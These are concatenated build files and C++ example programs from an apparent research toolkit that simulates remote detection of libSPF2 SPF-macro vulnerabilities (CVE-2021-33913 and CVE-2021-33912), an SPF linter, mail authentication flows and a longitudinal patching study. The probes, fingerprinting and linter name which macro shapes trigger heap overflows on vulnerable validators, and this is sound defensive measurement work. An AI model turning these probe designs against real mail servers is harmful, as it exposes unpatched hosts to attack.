  "/root/repo/src/dns/forwarder.cpp" "src/CMakeFiles/spfail.dir/dns/forwarder.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/dns/forwarder.cpp.o.d"
  "/root/repo/src/dns/message.cpp" "src/CMakeFiles/spfail.dir/dns/message.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/dns/message.cpp.o.d"
  "/root/repo/src/dns/name.cpp" "src/CMakeFiles/spfail.dir/dns/name.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/dns/name.cpp.o.d"
  "/root/repo/src/dns/query_log.cpp" "src/CMakeFiles/spfail.dir/dns/query_log.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/dns/query_log.cpp.o.d"
  "/root/repo/src/dns/record.cpp" "src/CMakeFiles/spfail.dir/dns/record.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/dns/record.cpp.o.d"
  "/root/repo/src/dns/recursive.cpp" "src/CMakeFiles/spfail.dir/dns/recursive.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/dns/recursive.cpp.o.d"
  "/root/repo/src/dns/resolver.cpp" "src/CMakeFiles/spfail.dir/dns/resolver.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/dns/resolver.cpp.o.d"
  "/root/repo/src/dns/server.cpp" "src/CMakeFiles/spfail.dir/dns/server.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/dns/server.cpp.o.d"
  "/root/repo/src/dns/zone.cpp" "src/CMakeFiles/spfail.dir/dns/zone.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/dns/zone.cpp.o.d"
  "/root/repo/src/dns/zonefile.cpp" "src/CMakeFiles/spfail.dir/dns/zonefile.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/dns/zonefile.cpp.o.d"
  "/root/repo/src/longitudinal/inference.cpp" "src/CMakeFiles/spfail.dir/longitudinal/inference.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/longitudinal/inference.cpp.o.d"
  "/root/repo/src/longitudinal/notification.cpp" "src/CMakeFiles/spfail.dir/longitudinal/notification.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/longitudinal/notification.cpp.o.d"
  "/root/repo/src/longitudinal/patch_model.cpp" "src/CMakeFiles/spfail.dir/longitudinal/patch_model.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/longitudinal/patch_model.cpp.o.d"
  "/root/repo/src/longitudinal/pkgmgr.cpp" "src/CMakeFiles/spfail.dir/longitudinal/pkgmgr.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/longitudinal/pkgmgr.cpp.o.d"
  "/root/repo/src/longitudinal/study.cpp" "src/CMakeFiles/spfail.dir/longitudinal/study.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/longitudinal/study.cpp.o.d"
  "/root/repo/src/mail/message.cpp" "src/CMakeFiles/spfail.dir/mail/message.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/mail/message.cpp.o.d"
  "/root/repo/src/mta/host.cpp" "src/CMakeFiles/spfail.dir/mta/host.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/mta/host.cpp.o.d"
  "/root/repo/src/population/fleet.cpp" "src/CMakeFiles/spfail.dir/population/fleet.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/population/fleet.cpp.o.d"
  "/root/repo/src/population/geo.cpp" "src/CMakeFiles/spfail.dir/population/geo.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/population/geo.cpp.o.d"
  "/root/repo/src/population/tld.cpp" "src/CMakeFiles/spfail.dir/population/tld.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/population/tld.cpp.o.d"
  "/root/repo/src/report/session.cpp" "src/CMakeFiles/spfail.dir/report/session.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/report/session.cpp.o.d"
  "/root/repo/src/report/tables.cpp" "src/CMakeFiles/spfail.dir/report/tables.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/report/tables.cpp.o.d"
  "/root/repo/src/scan/campaign.cpp" "src/CMakeFiles/spfail.dir/scan/campaign.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/scan/campaign.cpp.o.d"
  "/root/repo/src/scan/labels.cpp" "src/CMakeFiles/spfail.dir/scan/labels.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/scan/labels.cpp.o.d"
  "/root/repo/src/scan/prober.cpp" "src/CMakeFiles/spfail.dir/scan/prober.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/scan/prober.cpp.o.d"
  "/root/repo/src/scan/test_responder.cpp" "src/CMakeFiles/spfail.dir/scan/test_responder.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/scan/test_responder.cpp.o.d"
  "/root/repo/src/smtp/client.cpp" "src/CMakeFiles/spfail.dir/smtp/client.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/smtp/client.cpp.o.d"
  "/root/repo/src/smtp/command.cpp" "src/CMakeFiles/spfail.dir/smtp/command.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/smtp/command.cpp.o.d"
  "/root/repo/src/smtp/server.cpp" "src/CMakeFiles/spfail.dir/smtp/server.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/smtp/server.cpp.o.d"
  "/root/repo/src/spf/eval.cpp" "src/CMakeFiles/spfail.dir/spf/eval.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/spf/eval.cpp.o.d"
  "/root/repo/src/spf/macro.cpp" "src/CMakeFiles/spfail.dir/spf/macro.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/spf/macro.cpp.o.d"
  "/root/repo/src/spf/received_spf.cpp" "src/CMakeFiles/spfail.dir/spf/received_spf.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/spf/received_spf.cpp.o.d"
  "/root/repo/src/spf/record.cpp" "src/CMakeFiles/spfail.dir/spf/record.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/spf/record.cpp.o.d"
  "/root/repo/src/spf/result.cpp" "src/CMakeFiles/spfail.dir/spf/result.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/spf/result.cpp.o.d"
  "/root/repo/src/spfvuln/behavior.cpp" "src/CMakeFiles/spfail.dir/spfvuln/behavior.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/spfvuln/behavior.cpp.o.d"
  "/root/repo/src/spfvuln/fingerprint.cpp" "src/CMakeFiles/spfail.dir/spfvuln/fingerprint.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/spfvuln/fingerprint.cpp.o.d"
  "/root/repo/src/spfvuln/libspf2_expander.cpp" "src/CMakeFiles/spfail.dir/spfvuln/libspf2_expander.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/spfvuln/libspf2_expander.cpp.o.d"
  "/root/repo/src/spfvuln/payload.cpp" "src/CMakeFiles/spfail.dir/spfvuln/payload.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/spfvuln/payload.cpp.o.d"
  "/root/repo/src/spfvuln/variant_expanders.cpp" "src/CMakeFiles/spfail.dir/spfvuln/variant_expanders.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/spfvuln/variant_expanders.cpp.o.d"
  "/root/repo/src/util/clock.cpp" "src/CMakeFiles/spfail.dir/util/clock.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/util/clock.cpp.o.d"
  "/root/repo/src/util/encoding.cpp" "src/CMakeFiles/spfail.dir/util/encoding.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/util/encoding.cpp.o.d"
  "/root/repo/src/util/ip.cpp" "src/CMakeFiles/spfail.dir/util/ip.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/util/ip.cpp.o.d"
  "/root/repo/src/util/rng.cpp" "src/CMakeFiles/spfail.dir/util/rng.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/util/rng.cpp.o.d"
  "/root/repo/src/util/stats.cpp" "src/CMakeFiles/spfail.dir/util/stats.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/util/stats.cpp.o.d"
  "/root/repo/src/util/strings.cpp" "src/CMakeFiles/spfail.dir/util/strings.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/util/strings.cpp.o.d"
  "/root/repo/src/util/table.cpp" "src/CMakeFiles/spfail.dir/util/table.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/util/table.cpp.o.d"
  "/root/repo/src/util/thread_pool.cpp" "src/CMakeFiles/spfail.dir/util/thread_pool.cpp.o" "gcc" "src/CMakeFiles/spfail.dir/util/thread_pool.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
