# Empty compiler generated dependencies file for spfail.
# This may be replaced when dependencies are built.
