// Offline analysis of an authoritative DNS query log — the second half of
// the paper's pipeline. The scanner only *elicits* queries; the verdicts are
// computed afterwards from the server logs. This example replays that:
// it probes a mixed fleet of MTAs (writing nothing down but the DNS log),
// then reconstructs every per-target verdict purely from the log.
//
//   $ ./log_forensics
#include <iostream>
#include <map>

#include "mta/host.hpp"
#include "scan/prober.hpp"
#include "scan/test_responder.hpp"
#include "spfvuln/fingerprint.hpp"

using namespace spfail;

int main() {
  dns::AuthoritativeServer server;
  util::SimClock clock;
  const auto responder = scan::install_test_responder(server);

  // --- Phase 1: the scan (we keep no results, only the DNS log) --------
  scan::ProberConfig prober_config;
  prober_config.responder = responder;
  net::Transport transport(clock);
  scan::Prober prober(prober_config, server, transport);
  scan::LabelAllocator labels(util::Rng(11), responder.base);
  const std::string suite = labels.new_suite();

  const spfvuln::SpfBehavior zoo[] = {
      spfvuln::SpfBehavior::RfcCompliant,
      spfvuln::SpfBehavior::VulnerableLibspf2,
      spfvuln::SpfBehavior::NoTruncation,
      spfvuln::SpfBehavior::VulnerableLibspf2,
      spfvuln::SpfBehavior::NoExpansion,
      spfvuln::SpfBehavior::RfcCompliant,
  };
  std::map<std::string, std::string> ground_truth;  // id -> behaviour name
  std::uint8_t octet = 30;
  for (const auto behavior : zoo) {
    mta::HostProfile profile;
    profile.address = util::IpAddress::v4(203, 0, 113, octet++);
    profile.behaviors = {behavior};
    mta::MailHost host(profile, server, clock);
    const std::string id = labels.new_id();
    ground_truth[id] = to_string(behavior);
    prober.probe(host, "target.example",
                 labels.mail_from_domain(id, suite), scan::TestKind::NoMsg);
  }
  std::cout << "Scan phase complete: " << server.query_log().size()
            << " queries captured at the authoritative server.\n\n";

  // --- Phase 2: forensics, from the log alone --------------------------
  // Group queries by the <id> label (position: directly under <suite>.base).
  const dns::Name suite_base = responder.base.child(suite);
  std::map<std::string, std::vector<dns::Name>> by_id;
  for (const auto& entry : server.query_log().entries()) {
    if (!entry.qname.is_subdomain_of(suite_base)) continue;
    const auto relative = entry.qname.labels_relative_to(suite_base);
    if (relative.empty()) continue;
    by_id[relative.back()].push_back(entry.qname);
  }

  std::cout << "Reconstructed verdicts (log-only) vs ground truth:\n";
  std::size_t correct = 0;
  for (const auto& [id, queries] : by_id) {
    const spfvuln::FingerprintClassifier classifier(
        suite_base.child(id), responder.macro);
    std::set<spfvuln::SpfBehavior> behaviors;
    for (const auto& qname : queries) {
      const auto behavior = classifier.classify(qname);
      if (behavior.has_value()) behaviors.insert(*behavior);
    }
    std::string verdict = behaviors.empty()
                              ? std::string("inconclusive")
                              : to_string(*behaviors.begin());
    const std::string& truth = ground_truth.at(id);
    const bool match = verdict == truth;
    correct += match;
    std::cout << "  id=" << id << "  verdict=" << verdict
              << "  truth=" << truth << (match ? "  OK" : "  MISMATCH")
              << "\n";
  }
  std::cout << "\n" << correct << "/" << ground_truth.size()
            << " verdicts recovered from the log alone.\n";
  return correct == ground_truth.size() ? 0 : 1;
}
