// Quickstart: publish an SPF policy in an in-memory DNS zone and validate
// senders against it with the RFC 7208 evaluator.
//
//   $ ./quickstart
//
// This walks the paper's section 2.2 example end to end: the example.com
// policy authorises foo.example.com's address, one literal IPv4 address,
// anything bar.org authorises, and (via a macro) a per-sender host under
// foo.com — everything else hard-fails.
#include <iostream>

#include "dns/resolver.hpp"
#include "dns/server.hpp"
#include "spf/eval.hpp"

using namespace spfail;

int main() {
  // --- 1. Publish zones on an authoritative server --------------------
  dns::AuthoritativeServer server;

  dns::Zone example(dns::Name::from_string("example.com"));
  example.add(dns::ResourceRecord::txt(
      dns::Name::from_string("example.com"),
      "v=spf1 a:foo.example.com ip4:192.0.2.1 include:bar.org "
      "a:%{d1r}.foo.com -all"));
  example.add(dns::ResourceRecord::a(dns::Name::from_string("foo.example.com"),
                                     util::IpAddress::v4(198, 51, 100, 25)));
  server.add_zone(std::move(example));

  dns::Zone bar(dns::Name::from_string("bar.org"));
  bar.add(dns::ResourceRecord::txt(dns::Name::from_string("bar.org"),
                                   "v=spf1 ip4:203.0.113.0/24 -all"));
  server.add_zone(std::move(bar));

  dns::Zone foo(dns::Name::from_string("foo.com"));
  foo.add(dns::ResourceRecord::a(dns::Name::from_string("example.foo.com"),
                                 util::IpAddress::v4(192, 0, 2, 200)));
  server.add_zone(std::move(foo));

  // --- 2. Wire up a resolver and the evaluator ------------------------
  util::SimClock clock;
  dns::StubResolver resolver(server, clock, util::IpAddress::v4(10, 0, 0, 53));
  spf::Rfc7208Expander expander;
  spf::Evaluator evaluator(resolver, expander);

  // --- 3. Check a few senders -----------------------------------------
  const auto check = [&](const char* who, const char* ip) {
    spf::CheckRequest request;
    request.sender_local = "user";
    request.sender_domain = dns::Name::from_string("example.com");
    request.client_ip = *util::IpAddress::parse(ip);
    request.helo_domain = dns::Name::from_string("client.example.net");
    const spf::CheckOutcome outcome = evaluator.check_host(request);
    std::cout << "  " << who << " from " << ip << " -> "
              << to_string(outcome.result) << " ("
              << outcome.dns_mechanism_lookups << " mechanism lookups)\n";
  };

  std::cout << "Policy: v=spf1 a:foo.example.com ip4:192.0.2.1 "
               "include:bar.org a:%{d1r}.foo.com -all\n\n";
  check("foo.example.com's host     ", "198.51.100.25");
  check("the literal ip4 mechanism  ", "192.0.2.1");
  check("a host bar.org authorises  ", "203.0.113.77");
  check("the macro-matched host     ", "192.0.2.200");
  check("an unauthorised host       ", "192.0.2.66");

  // --- 4. Peek at the macro machinery ----------------------------------
  spf::MacroContext ctx;
  ctx.sender_local = "user";
  ctx.sender_domain = dns::Name::from_string("example.com");
  ctx.current_domain = ctx.sender_domain;
  ctx.client_ip = util::IpAddress::v4(203, 0, 113, 7);
  std::cout << "\nMacro expansions for user@example.com:\n";
  for (const char* macro :
       {"%{l}", "%{d}", "%{d1}", "%{dr}", "%{d1r}", "%{i}._spf.%{d2}"}) {
    std::cout << "  " << macro << " -> " << expander.expand(macro, ctx) << "\n";
  }
  return 0;
}
