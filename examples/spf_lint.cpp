// spf_lint: a command-line SPF record linter built on the library.
//
//   $ ./spf_lint 'v=spf1 a mx include:x.org a:%{d1r}.relay.net ~all'
//
// Reports: syntax validity, the DNS-mechanism budget the record consumes
// (RFC 7208 caps evaluation at 10), macro usage, and — the SPFail angle —
// whether the record's macros would trigger the libSPF2 CVEs on a vulnerable
// validator, with the exact erroneous expansion such a validator would emit.
#include <iostream>

#include "spf/record.hpp"
#include "spfvuln/libspf2_expander.hpp"

using namespace spfail;

namespace {

int count_dns_mechanisms(const spf::Record& record) {
  int n = 0;
  for (const auto& mech : record.mechanisms) {
    switch (mech.kind) {
      case spf::MechanismKind::A:
      case spf::MechanismKind::Mx:
      case spf::MechanismKind::Ptr:
      case spf::MechanismKind::Include:
      case spf::MechanismKind::Exists:
        ++n;
        break;
      default:
        break;
    }
  }
  if (record.redirect().has_value()) ++n;
  return n;
}

// Inspect every macro item in a domain-spec for CVE-triggering shapes.
void lint_macros(const std::string& where, const std::string& spec,
                 bool& any_finding) {
  std::vector<spf::MacroToken> tokens;
  try {
    tokens = spf::parse_macro_string(spec);
  } catch (const spf::MacroSyntaxError& e) {
    std::cout << "  ERROR   " << where << ": macro syntax — " << e.what()
              << "\n";
    any_finding = true;
    return;
  }
  for (const auto& token : tokens) {
    const auto* item = std::get_if<spf::MacroItem>(&token);
    if (item == nullptr) continue;
    if (item->reverse && item->keep > 0) {
      any_finding = true;
      const auto report = spfvuln::libspf2_expand_item(*item, "example.com");
      std::cout << "  WARN    " << where << ": %{" << item->letter
                << item->keep << "r} triggers CVE-2021-33913 on vulnerable "
                   "libSPF2 (expands \"example.com\" to \""
                << report.output << "\", " << report.overflow_bytes
                << " heap bytes overflowed)\n";
    }
    if (item->url_escape) {
      any_finding = true;
      std::cout << "  WARN    " << where << ": uppercase %{"
                << static_cast<char>(std::toupper(item->letter))
                << "} URL-encoding triggers CVE-2021-33912 on vulnerable "
                   "libSPF2 when the value contains non-ASCII bytes\n";
    }
    if (item->letter == 'p') {
      std::cout << "  NOTE    " << where
                << ": %{p} forces costly PTR validation on every receiver "
                   "(RFC 7208 discourages it)\n";
    }
  }
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) {
    std::cerr << "usage: spf_lint '<spf record text>'\n";
    return 2;
  }
  const std::string text = argv[1];
  std::cout << "Record: " << text << "\n\n";

  spf::Record record;
  try {
    record = spf::parse_record(text);
  } catch (const spf::RecordSyntaxError& e) {
    std::cout << "  ERROR   syntax: " << e.what()
              << "\n\nVerdict: PERMERROR — receivers reject this record.\n";
    return 1;
  }

  bool any_finding = false;
  const int lookups = count_dns_mechanisms(record);
  std::cout << "  OK      syntax valid: " << record.mechanisms.size()
            << " mechanisms, " << record.modifiers.size() << " modifiers\n";
  if (lookups > 10) {
    any_finding = true;
    std::cout << "  ERROR   " << lookups
              << " DNS-querying terms — evaluation PermErrors at 10 "
                 "(RFC 7208 section 4.6.4)\n";
  } else if (lookups >= 8) {
    any_finding = true;
    std::cout << "  WARN    " << lookups
              << " of 10 permitted DNS-querying terms used — includes may "
                 "push this over\n";
  } else {
    std::cout << "  OK      " << lookups
              << " of 10 permitted DNS-querying terms used\n";
  }

  bool ends_with_all = false;
  for (const auto& mech : record.mechanisms) {
    if (mech.kind == spf::MechanismKind::All) ends_with_all = true;
  }
  if (!ends_with_all && !record.redirect().has_value()) {
    any_finding = true;
    std::cout << "  WARN    no 'all' mechanism or redirect — unmatched "
                 "senders evaluate Neutral\n";
  }

  for (const auto& mech : record.mechanisms) {
    if (!mech.domain_spec.empty()) {
      lint_macros(to_string(mech.kind) + ":" + mech.domain_spec,
                  mech.domain_spec, any_finding);
    }
    if (mech.kind == spf::MechanismKind::Ptr) {
      any_finding = true;
      std::cout << "  WARN    ptr mechanism is SHOULD NOT per RFC 7208 "
                   "section 5.5\n";
    }
  }
  for (const auto& mod : record.modifiers) {
    lint_macros(mod.name + "=" + mod.value, mod.value, any_finding);
  }

  std::cout << "\nVerdict: "
            << (any_finding ? "findings above — review before publishing."
                            : "clean.")
            << "\n";
  return 0;
}
