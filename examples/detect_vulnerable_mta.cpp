// The paper's core technique, end to end: remotely detect a vulnerable
// libSPF2 installation with one benign SMTP probe.
//
//   $ ./detect_vulnerable_mta
//
// Builds three simulated MTAs (vulnerable libSPF2, RFC-compliant, and a
// non-compliant truncation-skipping validator), probes each with the NoMsg
// test, and prints the DNS queries the authoritative server observed along
// with the behaviour classification derived from them.
#include <iostream>

#include "mta/host.hpp"
#include "scan/prober.hpp"
#include "scan/test_responder.hpp"
#include "scan/usernames.hpp"

using namespace spfail;

int main() {
  dns::AuthoritativeServer server;
  util::SimClock clock;
  const scan::TestResponderConfig responder =
      scan::install_test_responder(server);

  scan::ProberConfig prober_config;
  prober_config.responder = responder;
  net::Transport transport(clock);
  scan::Prober prober(prober_config, server, transport);

  scan::LabelAllocator labels(util::Rng(7), responder.base);
  const std::string suite = labels.new_suite();

  struct Target {
    const char* description;
    spfvuln::SpfBehavior behavior;
    std::uint8_t last_octet;
  };
  const Target targets[] = {
      {"vulnerable libSPF2 1.2.10", spfvuln::SpfBehavior::VulnerableLibspf2, 10},
      {"RFC 7208-compliant validator", spfvuln::SpfBehavior::RfcCompliant, 11},
      {"non-compliant (no truncation)", spfvuln::SpfBehavior::NoTruncation, 12},
  };

  for (const Target& target : targets) {
    mta::HostProfile profile;
    profile.address = util::IpAddress::v4(203, 0, 113, target.last_octet);
    profile.behaviors = {target.behavior};
    mta::MailHost host(profile, server, clock);

    const dns::Name mail_from = labels.mail_from_domain(labels.new_id(), suite);
    std::cout << "Probing " << host.address().to_string() << " ("
              << target.description << ")\n"
              << "  MAIL FROM:<" << scan::kUsernameLadder[0] << "@"
              << mail_from.to_string() << ">\n"
              << "  Served policy: "
              << scan::test_policy_text(responder, mail_from) << "\n";

    const std::size_t log_before = server.query_log().size();
    const scan::ProbeResult result =
        prober.probe(host, "target.example", mail_from, scan::TestKind::NoMsg);

    std::cout << "  Queries observed at the authoritative server:\n";
    const auto entries = server.query_log().entries();
    for (std::size_t i = log_before; i < entries.size(); ++i) {
      const auto& entry = entries[i];
      std::cout << "    " << to_string(entry.qtype) << "  "
                << entry.qname.to_string() << "\n";
    }
    std::cout << "  Verdict: " << to_string(result.status);
    for (const auto behavior : result.behaviors) {
      std::cout << " [" << to_string(behavior) << "]";
    }
    std::cout << (result.vulnerable() ? "  << CVE-2021-33913 fingerprint"
                                      : "")
              << "\n\n";
  }
  return 0;
}
