// End-to-end authenticated mail flow: one message travels from a sending
// organisation to a receiving MTA with every mechanism this library models —
// SPF (RFC 7208), DKIM (RFC 6376 protocol flow), and DMARC (RFC 7489) —
// and a spoofer tries the same and is rejected.
//
//   $ ./mail_flow
#include <iostream>

#include "dkim/dkim.hpp"
#include "dmarc/discovery.hpp"
#include "dns/server.hpp"
#include "dns/zonefile.hpp"
#include "mta/host.hpp"
#include "smtp/client.hpp"
#include "spf/received_spf.hpp"

using namespace spfail;

int main() {
  // --- The sending organisation's DNS ---------------------------------
  dns::AuthoritativeServer dns_server;
  dns::Zone corp(dns::Name::from_string("corp.example"));
  corp.add(dns::ResourceRecord::txt(dns::Name::from_string("corp.example"),
                                    "v=spf1 ip4:198.51.100.25 -all"));
  corp.add(dns::ResourceRecord::txt(
      dns::Name::from_string("_dmarc.corp.example"), "v=DMARC1; p=reject"));
  corp.add(dns::ResourceRecord::txt(
      dns::Name::from_string("sel1._domainkey.corp.example"),
      dkim::key_record_text("corp-signing-secret")));
  dns_server.add_zone(std::move(corp));

  util::SimClock clock;
  dns::StubResolver resolver(dns_server, clock,
                             util::IpAddress::v4(192, 0, 2, 53));

  // --- The receiving MTA ------------------------------------------------
  mta::HostProfile receiver_profile;
  receiver_profile.address = util::IpAddress::v4(192, 0, 2, 25);
  receiver_profile.behaviors = {spfvuln::SpfBehavior::RfcCompliant};
  receiver_profile.spf_timing = mta::SpfTiming::AfterData;
  receiver_profile.checks_dmarc = true;
  mta::MailHost receiver(receiver_profile, dns_server, clock);

  const auto attempt = [&](const char* who,
                           const util::IpAddress& sender_ip,
                           bool sign) {
    std::cout << "=== " << who << " (from " << sender_ip.to_string()
              << (sign ? ", DKIM-signed" : ", unsigned") << ") ===\n";

    mail::Message message;
    message.add_header("From", "ceo@corp.example");
    message.add_header("To", "partner@rx.example");
    message.add_header("Subject", "Quarterly numbers");
    message.set_body("Please find the numbers attached.\r\n");
    if (sign) {
      dkim::Signer signer(dns::Name::from_string("corp.example"), "sel1",
                          "corp-signing-secret");
      signer.sign(message);
    }

    // Receiver-side authentication, exactly as an inbound filter would run:
    spf::Rfc7208Expander expander;
    spf::Evaluator evaluator(resolver, expander);
    spf::CheckRequest spf_request;
    spf_request.client_ip = sender_ip;
    spf_request.sender_local = "ceo";
    spf_request.sender_domain = dns::Name::from_string("corp.example");
    spf_request.helo_domain = dns::Name::from_string("mail.corp.example");
    const spf::CheckOutcome spf_outcome = evaluator.check_host(spf_request);
    std::cout << spf::received_spf_header(spf_outcome, spf_request,
                                          "mx.rx.example")
              << "\n";

    const dkim::Verification dkim_outcome = dkim::verify(message, resolver);
    std::cout << "DKIM: " << to_string(dkim_outcome.result)
              << (dkim_outcome.domain.empty()
                      ? std::string{}
                      : " (d=" + dkim_outcome.domain.to_string() + ")")
              << "\n";

    const auto from_domain = *message.from_domain();
    const auto discovery = dmarc::discover(resolver, from_domain);
    const auto disposition = dmarc::disposition_for(
        discovery, spf_outcome.result, spf_request.sender_domain,
        dkim_outcome.result == dkim::VerifyResult::Pass, dkim_outcome.domain,
        from_domain);
    std::cout << "DMARC (" << (discovery.record.has_value()
                                   ? dmarc::to_text(*discovery.record)
                                   : std::string("no record"))
              << ") -> " << to_string(disposition) << "\n";

    // And over actual SMTP against the receiving host:
    auto session = receiver.connect(sender_ip);
    smtp::Client client("mail.corp.example");
    const auto delivery = client.deliver(
        *session, "ceo@corp.example", {"partner@rx.example"}, message);
    std::cout << "SMTP outcome: " << delivery.final_code << " "
              << delivery.final_text << "\n\n";
  };

  attempt("Legitimate mail server", util::IpAddress::v4(198, 51, 100, 25),
          /*sign=*/true);
  attempt("Spoofer (wrong network, no key)",
          util::IpAddress::v4(203, 0, 113, 66), /*sign=*/false);

  std::cout << "The spoofer fails SPF, carries no valid DKIM signature, and\n"
               "corp.example's DMARC p=reject turns that into an SMTP-level\n"
               "rejection — the ecosystem the SPFail vulnerabilities\n"
               "undermine from inside the validator itself.\n";
  return 0;
}
