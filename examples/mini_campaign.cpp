// A miniature end-to-end measurement study: synthesise a small Internet,
// run the initial scan, the four-month longitudinal simulation, and print
// the headline numbers the paper reports.
//
//   $ ./mini_campaign [scale]      (default scale 0.02)
#include <iostream>

#include "report/tables.hpp"
#include "session/scan_session.hpp"
#include "util/strings.hpp"

using namespace spfail;

int main(int argc, char** argv) {
  session::ScanConfig config;
  config.scale = 0.02;
  if (argc > 1) {
    // Reuse the strict flag parser so `./mini_campaign 0.05` and
    // `./mini_campaign bogus` behave like spfail_scan's --scale.
    const char* args[] = {argv[0], "--scale", argv[1]};
    try {
      config = session::ScanConfig::from_args(3, args, config);
    } catch (const session::ScanConfigError& e) {
      std::cerr << e.what() << "\n";
      return 2;
    }
  }
  session::ScanSession session(config);

  std::cout << "Synthesising a fleet at scale " << config.scale << "...\n";
  population::Fleet& fleet = session.fleet();
  std::cout << "  " << util::with_commas(static_cast<long long>(
                           fleet.domains().size()))
            << " domains across "
            << util::with_commas(static_cast<long long>(fleet.address_count()))
            << " MTA addresses\n\n";

  std::cout << "Running the initial measurement (2021-10-11), private\n"
               "notification (2021-11-15), public disclosure (2022-01-19),\n"
               "and 34 re-measurement rounds...\n\n";
  const longitudinal::StudyReport& report = *session.study();

  std::cout << "Initially vulnerable: "
            << util::with_commas(static_cast<long long>(
                   report.initially_vulnerable_addresses))
            << " addresses hosting "
            << util::with_commas(static_cast<long long>(
                   report.initially_vulnerable_domains))
            << " domains\n\n";

  std::cout << "Final distribution (paper Figure 2):\n"
            << report::fig2_final_distribution(fleet, report) << "\n";
  std::cout << "Notification funnel (paper section 7.7):\n"
            << report::notification_funnel(report) << "\n";

  const auto last = report.round_times.size() - 1;
  const auto counts = longitudinal::Study::domain_counts_at(
      report, fleet, last, longitudinal::Cohort::All);
  std::cout << "End of study: " << counts.vulnerable << " of "
            << counts.inferable << " inferable domains ("
            << util::percent(static_cast<long long>(counts.vulnerable),
                             static_cast<long long>(counts.inferable))
            << ") remain vulnerable — the paper's \"roughly 80%\".\n";
  return 0;
}
