// A miniature end-to-end measurement study: synthesise a small Internet,
// run the initial scan, the four-month longitudinal simulation, and print
// the headline numbers the paper reports.
//
//   $ ./mini_campaign [scale]      (default scale 0.02)
#include <cstdlib>
#include <iostream>

#include "longitudinal/study.hpp"
#include "report/tables.hpp"
#include "util/strings.hpp"

using namespace spfail;

int main(int argc, char** argv) {
  const double scale = argc > 1 ? std::atof(argv[1]) : 0.02;

  population::FleetConfig config;
  config.scale = scale;
  std::cout << "Synthesising a fleet at scale " << scale << "...\n";
  population::Fleet fleet(config);
  std::cout << "  " << util::with_commas(static_cast<long long>(
                           fleet.domains().size()))
            << " domains across "
            << util::with_commas(static_cast<long long>(fleet.address_count()))
            << " MTA addresses\n\n";

  std::cout << "Running the initial measurement (2021-10-11), private\n"
               "notification (2021-11-15), public disclosure (2022-01-19),\n"
               "and 34 re-measurement rounds...\n\n";
  longitudinal::Study study(fleet);
  const longitudinal::StudyReport report = study.run();

  std::cout << "Initially vulnerable: "
            << util::with_commas(static_cast<long long>(
                   report.initially_vulnerable_addresses))
            << " addresses hosting "
            << util::with_commas(static_cast<long long>(
                   report.initially_vulnerable_domains))
            << " domains\n\n";

  std::cout << "Final distribution (paper Figure 2):\n"
            << report::fig2_final_distribution(fleet, report) << "\n";
  std::cout << "Notification funnel (paper section 7.7):\n"
            << report::notification_funnel(report) << "\n";

  const auto last = report.round_times.size() - 1;
  const auto counts = longitudinal::Study::domain_counts_at(
      report, fleet, last, longitudinal::Cohort::All);
  std::cout << "End of study: " << counts.vulnerable << " of "
            << counts.inferable << " inferable domains ("
            << util::percent(static_cast<long long>(counts.vulnerable),
                             static_cast<long long>(counts.inferable))
            << ") remain vulnerable — the paper's \"roughly 80%\".\n";
  return 0;
}
