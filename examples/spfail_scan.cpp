// spfail_scan: drive the whole measurement study from the command line —
// the operator tool the paper's authors effectively ran, against the
// simulated Internet.
//
//   usage: spfail_scan [--scale S] [--seed N] [--threads N] [--initial-only]
//                      [--fault-rate R] [--fault-seed N] [--csv DIR]
//                      [--trace FILE]
//
//   --scale S        population scale, 0 < S <= 1 (default 0.05)
//   --seed N         fleet seed (default 2021)
//   --threads N      scan worker threads (default: SPFAIL_THREADS, else all
//                    cores); results are bit-identical at any count
//   --initial-only   run only the 2021-10-11 measurement, skip the
//                    longitudinal study
//   --fault-rate R   inject transient faults (SMTP tempfails, connection
//                    drops, latency spikes) into R of all probe attempts,
//                    0 <= R <= 1 (default: SPFAIL_FAULT_RATE, else 0); a
//                    degradation report is printed when R > 0
